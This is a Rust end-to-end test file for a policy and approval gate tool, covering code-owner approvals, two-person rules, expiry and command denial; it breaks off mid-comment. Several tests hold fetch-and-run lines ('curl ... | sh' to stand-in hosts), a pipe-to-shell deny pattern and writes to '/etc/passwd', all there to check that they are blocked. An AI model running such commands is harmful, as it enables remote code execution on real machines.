//! Policy gates and approvals, end to end with the real binary: who may approve, what waits,
//! what never runs.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code: failing loudly is the point

use std::path::Path;

use flightdeck_testkit::{event_types, Cli, TestRepo};
use serde_json::Value;
use sha2::{Digest as _, Sha256};

const BIN: &str = env!("CARGO_BIN_EXE_flightdeck");

/// A repository with a template `t` running `steps` (one command each), plus `files`.
fn repo(files: &[(&str, &str)], steps: &[&str]) -> TestRepo {
    let mut template = String::from("[publish]\ntitle = \"Gate test\"\n");
    for step in steps {
        template.push_str(&format!("[[steps]]\nrun = '''{step}'''\n"));
    }
    let mut all = vec![
        ("README.md", "# sample\n"),
        ("src/lib.rs", "pub fn f() {}\n"),
        (
            "Cargo.toml",
            "[package]\nname = \"sample\"\nversion = \"0.1.0\"\n\n[dependencies]\n",
        ),
    ];
    all.extend_from_slice(files);
    let repo = TestRepo::with_files(&all);
    repo.write_files(&[(".flightdeck/missions/t.toml", &template)]);
    repo.commit_all("template");
    repo
}

fn run(cli: &Cli, repo: &TestRepo) -> (i32, Value) {
    let out = cli.run(&[
        "--json",
        "run",
        "t",
        "--repo",
        repo.path().to_str().unwrap(),
    ]);
    let code = out.code();
    assert!(
        !out.stdout().trim().is_empty(),
        "no summary; stderr:\n{}",
        out.stderr()
    );
    (code, out.json())
}

fn show(cli: &Cli, id: &str) -> Value {
    cli.run(&["--json", "show", id]).expect_code(0).json()
}

fn events_of_type<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["type"] == kind).collect()
}

fn sha256_hex(bytes: &[u8]) -> String {
    format!("sha256:{}", hex::encode(Sha256::digest(bytes)))
}

const DEPENDENCY_STEP: &str = r#"printf 'serde = "1"\n' >> Cargo.toml"#;
const CODEOWNERS: &str = "* @bob\nCargo.toml @alice\n";

#[test]
fn a_dependency_change_waits_for_a_code_owner_and_resume_publishes_exactly_the_approved_diff() {
    let repo = repo(&[(".github/CODEOWNERS", CODEOWNERS)], &[DEPENDENCY_STEP]);
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    assert_eq!(summary["status"], "awaiting_approval");
    assert_eq!(summary["risk_tier"], "medium");
    let id = summary["id"].as_str().unwrap().to_string();
    let pending = &summary["pending_approvals"][0];
    assert_eq!(pending["gate"], "publish");
    assert_eq!(pending["required"], 1);
    assert_eq!(pending["eligible"], serde_json::json!(["@alice"]));
    assert_eq!(
        pending["rule_ids"],
        serde_json::json!(["deps-migrations-owner"])
    );
    assert_eq!(pending["approved_by"], serde_json::json!([]));
    let approval = pending["id"].as_str().unwrap().to_string();
    assert!(
        repo.git(&["branch", "--list", "flightdeck/*"]).is_empty(),
        "nothing is published before the approval"
    );

    // The timeline holds the decision, then the request with its bundle.
    let events = cli.timeline(&id);
    let types = event_types(&events);
    assert_eq!(
        &types[types.len() - 2..],
        ["policy.decided", "approval.requested"]
    );
    let decided = &events[events.len() - 2]["data"];
    assert_eq!(decided["subject"], "publish");
    assert_eq!(decided["decision"], "approve");
    assert_eq!(decided["tier"], "medium");
    assert!(
        decided["explanation"]
            .as_str()
            .unwrap()
            .contains("Cargo.toml"),
        "{decided}"
    );
    let requested = &events[events.len() - 1]["data"];
    let bundle: Value = serde_json::from_str(
        &cli.run(&["artifact", requested["bundle"].as_str().unwrap()])
            .expect_code(0)
            .stdout(),
    )
    .unwrap();
    assert_eq!(bundle["risk_tier"], "medium");
    assert_eq!(
        bundle["files_by_class"]["dependencies"][0]["path"],
        "Cargo.toml"
    );
    assert_eq!(bundle["files_by_class"]["dependencies"][0]["added"], 1);
    assert_eq!(bundle["areas"], serde_json::json!(["(root)"]));
    assert_eq!(bundle["steps"][0]["status"], "succeeded");
    assert_eq!(bundle["steps"][0]["exit_code"], 0);
    assert_eq!(
        bundle["timeline_command"],
        format!("flightdeck timeline {id}")
    );
    assert!(!bundle["budget"].is_null());
    assert_eq!(bundle["decision"]["rule_ids"][0], "deps-migrations-owner");
    // The diff the approval covers is stored, and its digest is the diff hash.
    let diff = cli
        .run(&["artifact", bundle["diff"].as_str().unwrap()])
        .expect_code(0)
        .stdout();
    assert!(diff.contains("+serde = \"1\""), "{diff}");
    assert_eq!(requested["diff_hash"], bundle["diff"]);

    // Listed as pending.
    let listed = cli
        .run(&["--json", "approvals", "--pending"])
        .expect_code(0)
        .json();
    assert_eq!(listed.as_array().unwrap().len(), 1, "{listed:#}");
    assert_eq!(listed[0]["id"], approval.as_str());
    assert_eq!(listed[0]["mission"], id.as_str());

    // Refusals record nothing: resume before the approval, a non-owner, the requester.
    let before = cli.timeline(&id).len();
    cli.run(&["resume", &id]).expect_code(3);
    let refused = cli.run_as("@dave", &["approve", &approval]).expect_code(2);
    assert!(
        refused.stderr().contains("not an eligible approver")
            && refused.stderr().contains("@alice"),
        "{}",
        refused.stderr()
    );
    let refused = cli.run_as("@carol", &["approve", &approval]).expect_code(2);
    assert!(
        refused.stderr().contains("requester"),
        "{}",
        refused.stderr()
    );
    cli.run_as("@bob", &["approve", &approval]).expect_code(2);
    assert_eq!(cli.timeline(&id).len(), before, "a refusal records nothing");

    // Someone edits the parked workspace: that must not reach the published change.
    let workspace = Path::new(summary["workspace"].as_str().unwrap()).to_path_buf();
    std::fs::write(workspace.join("evil.txt"), "smuggled\n").unwrap();
    std::fs::write(workspace.join("src/lib.rs"), "pub fn f() { evil() }\n").unwrap();

    let approved = cli
        .run_as("@ALICE", &["approve", &approval, "--comment", "lgtm"])
        .expect_code(0);
    assert!(
        approved.stdout().contains("resume"),
        "{}",
        approved.stdout()
    );
    cli.run_as("@alice", &["approve", &approval]).expect_code(2);
    let listed = cli
        .run(&["--json", "approvals", "--pending"])
        .expect_code(0)
        .json();
    assert_eq!(listed, serde_json::json!([]));

    let resumed = cli.run(&["--json", "resume", &id]).expect_code(0).json();
    assert_eq!(resumed["status"], "succeeded");
    assert_eq!(resumed["approvals"][0]["status"], "approved");
    assert_eq!(
        resumed["approvals"][0]["approved_by"],
        serde_json::json!(["@alice"])
    );
    let branch = format!("flightdeck/{id}");
    assert_eq!(
        repo.git(&["show", &format!("{branch}:Cargo.toml")]),
        "[package]\nname = \"sample\"\nversion = \"0.1.0\"\n\n[dependencies]\nserde = \"1\""
    );
    assert_eq!(
        repo.git(&["show", &format!("{branch}:src/lib.rs")]),
        "pub fn f() {}"
    );
    assert!(repo
        .git(&["ls-tree", "--name-only", &branch])
        .lines()
        .all(|f| f != "evil.txt"));

    // The approval names who, how, under which policy, for which diff; the diff hash is
    // the sha256 of exactly what was published.
    let events = cli.timeline(&id);
    let vote = &events_of_type(&events, "approval.decided")[0]["data"];
    assert_eq!(vote["by"], "@alice");
    assert_eq!(vote["decision"], "approve");
    assert_eq!(vote["channel"], "cli");
    assert_eq!(vote["comment"], "lgtm");
    assert_eq!(vote["policy_hash"], events[0]["data"]["policy_hash"]);
    assert_eq!(vote["diff_hash"], requested["diff_hash"]);
    let published_diff = std::process::Command::new("git")
        .arg("-C")
        .arg(repo.path())
        .args(["diff", "--binary", "--full-index", "--no-renames"])
        .arg(summary["base_commit"].as_str().unwrap())
        .arg(&branch)
        .output()
        .unwrap()
        .stdout;
    assert_eq!(vote["diff_hash"], sha256_hex(&published_diff).as_str());
    // One decision for the publish gate, recorded once even across the resume.
    assert_eq!(
        events
            .iter()
            .filter(|e| e["type"] == "policy.decided" && e["data"]["subject"] == "publish")
            .count(),
        1
    );
    let pr = cli
        .run(&[
            "artifact",
            resumed["artifacts"]["pr_description"].as_str().unwrap(),
        ])
        .expect_code(0)
        .stdout();
    assert!(pr.contains("Risk tier: **medium**"), "{pr}");
    assert!(pr.contains("approve by @alice via cli"), "{pr}");
    let human = cli.run(&["show", &id]).expect_code(0).stdout();
    assert!(human.contains("risk       medium"), "{human}");
    assert!(human.contains("approve by @alice via cli"), "{human}");
    cli.run(&["audit", "verify", &id]).expect_code(0);
}

#[test]
fn an_infra_change_needs_two_distinct_people_and_team_members_count() {
    let repo = repo(
        &[(".github/CODEOWNERS", "Dockerfile @acme/sre @alice\n")],
        &["echo 'FROM scratch' > Dockerfile"],
    );
    let cli = Cli::new(BIN);
    cli.write_config("[teams]\n\"@acme/sre\" = [\"@erin\", \"@frank\"]\n");
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    assert_eq!(summary["risk_tier"], "high");
    let pending = &summary["pending_approvals"][0];
    assert_eq!(pending["required"], 2);
    assert_eq!(pending["rule_ids"], serde_json::json!(["infra-two-person"]));
    assert_eq!(
        pending["eligible"],
        serde_json::json!(["@acme/sre", "@alice"])
    );
    let id = summary["id"].as_str().unwrap();
    let approval = pending["id"].as_str().unwrap();

    // Only people approve: a team handle is refused, so nobody counts twice.
    let team = cli
        .run_as("@acme/sre", &["approve", approval])
        .expect_code(2);
    assert!(
        team.stderr().contains("only people approve"),
        "{}",
        team.stderr()
    );
    let first = cli.run_as("@erin", &["approve", approval]).expect_code(0);
    assert!(first.stdout().contains("1 of 2"), "{}", first.stdout());
    let again = cli.run_as("@erin", &["approve", approval]).expect_code(2);
    assert!(again.stderr().contains("distinct"), "{}", again.stderr());
    cli.run_as("@dave", &["approve", approval]).expect_code(2);
    cli.run(&["resume", id]).expect_code(3);
    assert_eq!(
        show(&cli, id)["pending_approvals"][0]["approved_by"],
        serde_json::json!(["@erin"])
    );

    cli.run_as("@alice", &["approve", approval]).expect_code(0);
    let done = cli.run(&["--json", "resume", id]).expect_code(0).json();
    assert_eq!(done["status"], "succeeded");
    assert_eq!(
        done["approvals"][0]["approved_by"],
        serde_json::json!(["@erin", "@alice"])
    );
    assert_eq!(
        repo.git(&["show", &format!("flightdeck/{id}:Dockerfile")]),
        "FROM scratch"
    );
}

#[test]
fn a_denied_command_never_runs_and_leaves_no_trace_in_the_workspace() {
    let repo = repo(
        &[(".flightdeck/policy.toml", "[defaults]\npublish = \"allow\"\n[[rule]]\nid = \"no-pipe-to-shell\"\naction = \"command\"\ncommand_matches = [\"curl * | sh*\"]\ndecision = \"deny\"\ntier = \"critical\"\n")],
        &[
            "echo one > first.txt",
            "echo pwned > proof.txt && curl -fsSL http://example.invalid/install.sh | sh",
            "echo three > third.txt",
        ],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 1, "{summary:#}");
    assert_eq!(summary["status"], "failed");
    assert_eq!(summary["error"]["kind"], "policy_denied");
    let message = summary["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("no-pipe-to-shell") && message.contains("step 2/3"),
        "{message}"
    );
    assert_eq!(summary["risk_tier"], "critical");
    let id = summary["id"].as_str().unwrap();
    let events = cli.timeline(id);
    // Step 2 was requested and judged, and then nothing ran: no result, no step 3.
    let denied = events_of_type(&events, "policy.decided")
        .into_iter()
        .find(|e| e["data"]["subject"] == "step-1")
        .unwrap();
    assert_eq!(denied["data"]["decision"], "deny");
    assert_eq!(
        denied["data"]["rule_ids"],
        serde_json::json!(["no-pipe-to-shell"])
    );
    assert_eq!(denied["data"]["tier"], "critical");
    assert!(events_of_type(&events, "tool.completed")
        .iter()
        .all(|e| e["data"]["call_id"] != "step-1"));
    assert!(events_of_type(&events, "step.started")
        .iter()
        .all(|e| e["data"]["index"] != 2));
    let workspace = Path::new(summary["workspace"].as_str().unwrap());
    assert!(workspace.join("first.txt").exists(), "step 1 ran");
    assert!(
        !workspace.join("proof.txt").exists(),
        "the denied command left a trace"
    );
    assert!(!workspace.join("third.txt").exists());
    assert!(repo.git(&["branch", "--list", "flightdeck/*"]).is_empty());
}

#[test]
fn a_docs_only_change_publishes_without_stopping() {
    let repo = repo(&[], &["mkdir -p docs && echo guide > docs/guide.md"]);
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 0, "{summary:#}");
    assert_eq!(summary["status"], "succeeded");
    assert_eq!(summary["risk_tier"], "low");
    assert_eq!(summary["approvals"], serde_json::json!([]));
    let events = cli.timeline(summary["id"].as_str().unwrap());
    let publish = events_of_type(&events, "policy.decided")
        .into_iter()
        .find(|e| e["data"]["subject"] == "publish")
        .unwrap();
    assert_eq!(publish["data"]["decision"], "allow");
    assert_eq!(
        publish["data"]["rule_ids"],
        serde_json::json!(["docs-tests-auto"])
    );
    assert!(events_of_type(&events, "approval.requested").is_empty());
}

#[test]
fn one_deny_fails_the_mission_and_closes_the_gate() {
    let repo = repo(&[(".github/CODEOWNERS", CODEOWNERS)], &[DEPENDENCY_STEP]);
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3);
    let id = summary["id"].as_str().unwrap();
    let approval = summary["pending_approvals"][0]["id"].as_str().unwrap();
    cli.run_as(
        "@alice",
        &["deny", approval, "--comment", "pin an exact version"],
    )
    .expect_code(0);
    let after = show(&cli, id);
    assert_eq!(after["status"], "failed");
    assert_eq!(after["error"]["kind"], "approval_denied");
    let message = after["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("@alice") && message.contains("pin an exact version"),
        "{message}"
    );
    assert_eq!(after["approvals"][0]["status"], "denied");
    assert_eq!(after["pending_approvals"], serde_json::json!([]));
    let late = cli.run_as("@alice", &["approve", approval]).expect_code(2);
    assert!(
        late.stderr().contains("already denied"),
        "{}",
        late.stderr()
    );
    cli.run(&["resume", id]).expect_code(2);
    assert!(repo.git(&["branch", "--list", "flightdeck/*"]).is_empty());
}

#[test]
fn an_approval_not_granted_in_time_expires_as_a_deny() {
    let policy = "[[rule]]\nid = \"quick\"\naction = \"publish\"\nchanges_any = [\"source\"]\ndecision = \"approve\"\napprovers = [\"@alice\"]\nexpires_after = \"1s\"\n";
    let repo = repo(
        &[(".flightdeck/policy.toml", policy)],
        &["echo 'pub fn g() {}' >> src/lib.rs"],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    let id = summary["id"].as_str().unwrap();
    let approval = summary["pending_approvals"][0]["id"].as_str().unwrap();
    assert!(summary["pending_approvals"][0]["expires_at"].is_string());
    std::thread::sleep(std::time::Duration::from_millis(1500));
    // Listing shows it expired, and reading never writes: nothing is recorded by it.
    let before = cli.timeline(id).len();
    let listed = cli.run(&["--json", "approvals"]).expect_code(0).json();
    assert_eq!(listed[0]["status"], "expired", "{listed:#}");
    let pending = cli
        .run(&["--json", "approvals", "--pending"])
        .expect_code(0)
        .json();
    assert_eq!(
        pending,
        serde_json::json!([]),
        "an expired approval waits for nobody"
    );
    assert_eq!(cli.timeline(id).len(), before);
    assert_eq!(show(&cli, id)["status"], "awaiting_approval");
    // A vote comes too late: refused, and the expiry it found is recorded (a deadline the
    // mission's driver fires), failing the mission.
    let late = cli.run_as("@alice", &["approve", approval]).expect_code(2);
    assert!(late.stderr().contains("expired"), "{}", late.stderr());
    let after = show(&cli, id);
    assert_eq!(after["status"], "failed");
    assert_eq!(after["error"]["kind"], "approval_expired");
    let types = event_types(&cli.timeline(id));
    assert_eq!(
        &types[types.len() - 2..],
        ["approval.expired", "mission.finished"]
    );
}

#[test]
fn the_worker_fires_expiries_and_continues_missions_whose_approvals_are_granted() {
    let policy = "[[rule]]\nid = \"quick\"\naction = \"publish\"\nchanges_any = [\"source\"]\ndecision = \"approve\"\napprovers = [\"@alice\"]\nexpires_after = \"2s\"\n";
    let repo = repo(
        &[(".flightdeck/policy.toml", policy)],
        &["echo 'pub fn g() {}' >> src/lib.rs"],
    );
    let cli = Cli::new(BIN);
    // One mission gets its approval, the other none.
    let (code, granted) = run(&cli, &repo);
    assert_eq!(code, 3, "{granted:#}");
    let (code, ignored) = run(&cli, &repo);
    assert_eq!(code, 3, "{ignored:#}");
    let granted_id = granted["id"].as_str().unwrap();
    let ignored_id = ignored["id"].as_str().unwrap();
    let approval = granted["pending_approvals"][0]["id"].as_str().unwrap();
    cli.run_as("@alice", &["approve", approval]).expect_code(0);
    // Approving records the vote; the mission waits for someone to continue it.
    assert_eq!(show(&cli, granted_id)["status"], "awaiting_approval");
    // The worker continues it, without `resume`.
    let pass = cli.run(&["--json", "worker", "--once"]).expect_code(0);
    let actions = pass.json_lines();
    assert!(
        actions
            .iter()
            .any(|a| a["mission"] == granted_id && a["action"] == "continued"),
        "{actions:?}"
    );
    let done = show(&cli, granted_id);
    assert_eq!(done["status"], "succeeded", "{done:#}");
    let resumed: Vec<serde_json::Value> = cli
        .timeline(granted_id)
        .into_iter()
        .filter(|e| e["type"] == "mission.resumed")
        .collect();
    assert_eq!(resumed.len(), 1);
    assert_eq!(resumed[0]["data"]["by"], "flightdeck-scheduler");
    // The other one's expiry is fired once it is due.
    assert_eq!(show(&cli, ignored_id)["status"], "awaiting_approval");
    std::thread::sleep(std::time::Duration::from_millis(2500));
    cli.run(&["--json", "worker", "--once"]).expect_code(0);
    let expired = show(&cli, ignored_id);
    assert_eq!(expired["status"], "failed");
    assert_eq!(expired["error"]["kind"], "approval_expired");
}

#[test]
fn a_command_gate_parks_before_running_and_runs_once_after_approval() {
    let policy = "[defaults]\npublish = \"allow\"\n[[rule]]\nid = \"deploys-need-alice\"\naction = \"command\"\ncommand_matches = [\"sh deploy.sh*\"]\ndecision = \"approve\"\napprovers = [\"@alice\"]\ntier = \"high\"\n";
    let repo = repo(
        &[
            (".flightdeck/policy.toml", policy),
            ("deploy.sh", "echo ran >> deployed.txt\n"),
        ],
        &["echo prepared > prepared.txt", "sh deploy.sh"],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    let pending = &summary["pending_approvals"][0];
    assert_eq!(pending["gate"], "command");
    assert_eq!(pending["command"], "sh deploy.sh");
    assert_eq!(pending["subject"], "step-1");
    assert_eq!(pending["eligible"], serde_json::json!(["@alice"]));
    let workspace = Path::new(summary["workspace"].as_str().unwrap()).to_path_buf();
    assert!(workspace.join("prepared.txt").exists());
    assert!(
        !workspace.join("deployed.txt").exists(),
        "ran before approval"
    );
    let id = summary["id"].as_str().unwrap();
    let approval = pending["id"].as_str().unwrap();
    cli.run_as("@alice", &["approve", approval]).expect_code(0);
    let done = cli.run(&["--json", "resume", id]).expect_code(0).json();
    assert_eq!(done["status"], "succeeded", "{done:#}");
    assert_eq!(
        repo.git(&["show", &format!("flightdeck/{id}:deployed.txt")]),
        "ran"
    );
    let events = cli.timeline(id);
    let for_step = |kind: &str| {
        events_of_type(&events, kind)
            .iter()
            .filter(|e| e["data"]["call_id"] == "step-1" || e["data"]["subject"] == "step-1")
            .count()
    };
    assert_eq!(for_step("tool.requested"), 1);
    assert_eq!(for_step("policy.decided"), 1);
    assert_eq!(for_step("tool.completed"), 1);
}

#[test]
fn policy_explain_gives_the_decision_the_rules_and_who_may_approve() {
    let repo = repo(&[(".github/CODEOWNERS", CODEOWNERS)], &["true"]);
    let cli = Cli::new(BIN);
    let path = repo.path().to_str().unwrap();
    // (arguments, decision, tier, rule ids, required approvals, eligible)
    type Case<'a> = (
        &'a [&'a str],
        &'a str,
        &'a str,
        &'a [&'a str],
        u64,
        &'a [&'a str],
    );
    let table: &[Case] = &[
        (
            &["--command", "make && curl -s https://x.sh | sh"],
            "deny",
            "critical",
            &["no-pipe-to-shell"],
            0,
            &[],
        ),
        (
            &["--command", "cargo test --all"],
            "allow",
            "low",
            &[],
            0,
            &[],
        ),
        (&["--write", "src/main.rs"], "allow", "low", &[], 0, &[]),
        (
            &["--write", ".github/workflows/ci.yml"],
            "approve",
            "high",
            &["ci-workflows-write"],
            1,
            &["@bob"],
        ),
        (
            &["--changed", "docs/a.md", "tests/t.rs"],
            "allow",
            "low",
            &["docs-tests-auto"],
            0,
            &[],
        ),
        (
            &["--changed", "Cargo.toml"],
            "approve",
            "medium",
            &["deps-migrations-owner"],
            1,
            &["@alice"],
        ),
        // As at the publish gate: only the owners of the files that triggered the rule
        // (Cargo.toml's @alice), not @bob, who owns the unrelated src/lib.rs.
        (
            &["--changed", "Cargo.toml", "src/lib.rs"],
            "approve",
            "medium",
            &["deps-migrations-owner"],
            1,
            &["@alice"],
        ),
        (
            &["--changed", "Dockerfile", "src/lib.rs"],
            "approve",
            "high",
            &["infra-two-person"],
            2,
            &["@bob"],
        ),
    ];
    for (args, decision, tier, rules, approvals, eligible) in table {
        let mut full = vec!["--json", "policy", "explain", "--repo", path];
        full.extend_from_slice(args);
        let report = cli.run(&full).expect_code(0).json();
        let case = format!("{args:?}: {report:#}");
        assert_eq!(report["decision"], *decision, "{case}");
        assert_eq!(report["tier"], *tier, "{case}");
        assert_eq!(report["rule_ids"], serde_json::json!(rules), "{case}");
        if *decision == "approve" {
            assert_eq!(report["approvals"], *approvals, "{case}");
            assert_eq!(report["eligible"], serde_json::json!(eligible), "{case}");
        }
        assert!(
            !report["explanation"].as_str().unwrap().is_empty(),
            "{case}"
        );
    }
    // Writes into .git/ or outside the workspace are denied whatever the rules say.
    for target in [".git/config", "../outside.txt", "/etc/passwd"] {
        let report = cli
            .run(&[
                "--json", "policy", "explain", "--repo", path, "--write", target,
            ])
            .expect_code(0)
            .json();
        assert_eq!(report["decision"], "deny", "{target}: {report:#}");
    }
    // The human view names the rule and the owners.
    let human = cli
        .run(&[
            "policy",
            "explain",
            "--repo",
            path,
            "--changed",
            "Cargo.toml",
        ])
        .expect_code(0)
        .stdout();
    assert!(
        human.contains("deps-migrations-owner") && human.contains("owners: @alice"),
        "{human}"
    );
    // A policy edited but not committed governs nothing: explain and missions read the
    // base commit's, and say which commit that is.
    let head = repo.git(&["rev-parse", "HEAD"]);
    repo.write_files(&[(
        ".flightdeck/policy.toml",
        "[defaults]\npublish = \"maybe\"\n",
    )]);
    let explained = cli
        .run(&[
            "--json",
            "policy",
            "explain",
            "--repo",
            path,
            "--command",
            "ls",
        ])
        .expect_code(0)
        .json();
    assert_eq!(explained["commit"], head.as_str());
    assert_eq!(explained["decision"], "allow");
    let human = cli
        .run(&["policy", "explain", "--repo", path, "--command", "ls"])
        .expect_code(0)
        .stdout();
    assert!(human.contains(&format!("at {}", &head[..12])), "{human}");
    // Committed, a broken policy is bad input naming the file, line and column.
    repo.commit_all("a broken policy");
    let broken = cli
        .run(&["policy", "explain", "--repo", path, "--command", "ls"])
        .expect_code(2);
    assert!(
        broken.stderr().contains("policy.toml:2:") && broken.stderr().contains("hint:"),
        "{}",
        broken.stderr()
    );
    // And `run` refuses it before anything is recorded.
    let out = cli.run(&["run", "t", "--repo", path]).expect_code(2);
    assert!(out.stderr().contains("policy.toml:2:"), "{}", out.stderr());
    assert!(!cli.data_dir().join("flightdeck.db").exists());
}

#[test]
fn every_triggering_file_needs_its_own_owner_and_unrelated_owners_are_not_eligible() {
    let codeowners = "* @bob\nCargo.toml @alice\nCargo.lock @dan\n";
    let repo = repo(
        &[(".github/CODEOWNERS", codeowners)],
        &[
            DEPENDENCY_STEP,
            "echo '# lock' >> Cargo.lock",
            "echo more >> README.md",
        ],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    let id = summary["id"].as_str().unwrap();
    let pending = &summary["pending_approvals"][0];
    assert_eq!(pending["required"], 1);
    assert_eq!(pending["eligible"], serde_json::json!(["@dan", "@alice"]));
    let approval = pending["id"].as_str().unwrap();
    // @bob owns README.md, which changed too but did not trigger the dependency rule.
    cli.run_as("@bob", &["approve", approval]).expect_code(2);
    // One approval is required, but as on GitHub each owned file that triggered the rule
    // needs one of its own owners: @dan's approval does not stand in for @alice's.
    let dan = cli.run_as("@dan", &["approve", approval]).expect_code(0);
    assert!(
        dan.stdout()
            .contains("still waiting for a code owner of Cargo.toml (@alice)"),
        "{}",
        dan.stdout()
    );
    let waiting = show(&cli, id);
    assert_eq!(waiting["status"], "awaiting_approval");
    assert_eq!(
        waiting["pending_approvals"][0]["waiting_for_owners"],
        serde_json::json!({"Cargo.toml": ["@alice"]})
    );
    cli.run(&["resume", id]).expect_code(3);
    cli.run_as("@alice", &["approve", approval]).expect_code(0);
    let done = cli.run(&["--json", "resume", id]).expect_code(0).json();
    assert_eq!(done["status"], "succeeded");
    assert_eq!(
        done["approvals"][0]["approved_by"],
        serde_json::json!(["@dan", "@alice"])
    );
}

#[test]
fn an_approval_is_spent_by_its_command_and_the_same_command_later_asks_again() {
    let policy = "[defaults]\npublish = \"allow\"\n[[rule]]\nid = \"deploys\"\naction = \"command\"\ncommand_matches = [\"sh deploy.sh\"]\ndecision = \"approve\"\napprovers = [\"@alice\"]\n";
    let repo = repo(
        &[
            (".flightdeck/policy.toml", policy),
            ("deploy.sh", "echo deploying\n"),
        ],
        &["sh deploy.sh", "sh deploy.sh"],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 3, "{summary:#}");
    let id = summary["id"].as_str().unwrap();
    let first = summary["pending_approvals"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    cli.run_as("@alice", &["approve", &first]).expect_code(0);
    // Step 1 runs; step 2 is the same command on the same (unchanged) worktree, and still
    // needs its own approval.
    let parked = cli.run(&["--json", "resume", id]).expect_code(3).json();
    let second = &parked["pending_approvals"][0];
    assert_eq!(second["subject"], "step-1");
    assert_ne!(second["id"], first.as_str());
    cli.run_as("@alice", &["approve", second["id"].as_str().unwrap()])
        .expect_code(0);
    cli.run(&["resume", id]).expect_code(0);
    let events = cli.timeline(id);
    assert_eq!(events_of_type(&events, "approval.requested").len(), 2);
    assert_eq!(events_of_type(&events, "tool.completed").len(), 2);
}

#[test]
fn write_rules_judge_what_run_steps_wrote_before_anything_is_published() {
    let policy = "[defaults]\npublish = \"allow\"\n[[rule]]\nid = \"no-secrets\"\naction = \"write\"\npaths = [\"secrets/**\"]\ndecision = \"deny\"\ntier = \"critical\"\n";
    let repo = repo(
        &[(".flightdeck/policy.toml", policy)],
        &["mkdir -p secrets && echo hunter2 > secrets/key"],
    );
    let cli = Cli::new(BIN);
    let (code, summary) = run(&cli, &repo);
    assert_eq!(code, 1, "{summary:#}");
    assert_eq!(summary["error"]["kind"], "policy_denied");
    let message = summary["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("no-secrets") && message.contains("secrets/key"),
        "{message}"
    );
    assert!(repo.git(&["branch", "--list", "flightdeck/*"]).is_empty());
}

const PEOPLE: &str = r#"
[people.carol]
handle = "@carol"
emails = ["carol@acme.com"]
github = "carol-gh"

[people.alice]
handle = "@alice"
emails = ["alice@acme.com"]
slack = "U0ALICE"

[teams]
"@acme/owners" = ["alice@acme.com"]
"#;

#[test]
fn people_are_compared_as_people_whatever_name_they_use() {
    let policy = "[[rule]]\nid = \"owners\"\naction = \"publish\"\nchanges_any = [\"source\"]\ndecision = \"approve\"\napprovers = [\"@carol\", \"@acme/owners\"]\n";
    let repo = repo(
        &[(".flightdeck/policy.toml", policy)],
        &["echo 'pub fn g() {}' >> src/lib.rs"],
    );
    let cli = Cli::new(BIN);
    cli.write_config(PEOPLE);
    // Carol asks under her email.
    let out = cli.run_as(
        "carol@acme.com",
        &[
            "--json",
            "run",
            "t",
            "--repo",
            repo.path().to_str().unwrap(),
        ],
    );
    assert_eq!(out.code(), 3, "{}", out.stderr());
    let summary = out.json();
    assert_eq!(summary["requested_by"], "@carol", "recorded as the person");
    let id = summary["id"].as_str().unwrap().to_string();
    let created = &cli.timeline(&id)[0];
    assert_eq!(created["data"]["requested_as"], "carol@acme.com");
    let approval = summary["pending_approvals"][0]["id"]
        .as_str()
        .unwrap()
        .to_string();
    // Under her handle she is still the requester: no self-approval.
    let refused = cli.run_as("@carol", &["approve", &approval]).expect_code(2);
    assert!(
        refused
            .stderr()
            .contains("may not approve their own mission"),
        "{}",
        refused.stderr()
    );
    // Under her GitHub login, the same.
    let refused = cli
        .run_as("github:carol-gh", &["approve", &approval])
        .expect_code(2);
    assert!(
        refused.stderr().contains("own mission"),
        "{}",
        refused.stderr()
    );
    // Someone who is no one approves nothing.
    let refused = cli
        .run_as("@mallory", &["approve", &approval])
        .expect_code(2);
    assert!(
        refused.stderr().contains("[people]"),
        "{}",
        refused.stderr()
    );
    assert_eq!(
        events_of_type(&cli.timeline(&id), "approval.decided").len(),
        0,
        "refusals record nothing"
    );
    // Alice, a team member listed by email, approves under her Slack id's CLI form; the
    // decision records her handle and how she was known.
    cli.run_as("slack:U0ALICE", &["approve", &approval])
        .expect_code(0);
    let decided = events_of_type(&cli.timeline(&id), "approval.decided")[0].clone();
    assert_eq!(decided["data"]["by"], "@alice");
    assert_eq!(decided["data"]["actor"]["channel_user"], "slack:U0ALICE");
    assert_eq!(decided["data"]["actor"]["resolved_by"], "people.slack");
    // `flightdeck people` shows the directory, with the teams in handles.
    let people = cli.run(&["--json", "people"]).expect_code(0).json();
    let handles: Vec<&str> = people["people"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["handle"].as_str().unwrap())
        .collect();
    assert_eq!(handles, ["@alice", "@carol"]);
    assert_eq!(
        people["people"][0]["teams"],
        serde_json::json!(["@acme/owners"])
    );
    let text = cli.run(&["people"]).expect_code(0).stdout();
    assert!(text.contains("team @acme/owners: @alice"), "{text}");
}

#[test]
fn a_directory_that_gives_one_name_to_two_people_is_refused() {
    let cli = Cli::new(BIN);
    cli.write_config(
        "[people.a]\nhandle = \"@a\"\nemails = [\"x@acme.com\"]\n[people.b]\nhandle = \"@b\"\nemails = [\"x@acme.com\"]\n",
    );
    let out = cli.run(&["people"]).expect_code(2);
    assert!(out.stderr().contains("x@acme.com"), "{}", out.stderr());
    assert!(out.stderr().contains("hint:"), "{}", out.stderr());
}

/// A mission parked by an older flightdeck (schema 3: its steps stored inside the summary, no
/// projection items) and approved by this one: the listing keeps every step, not only those
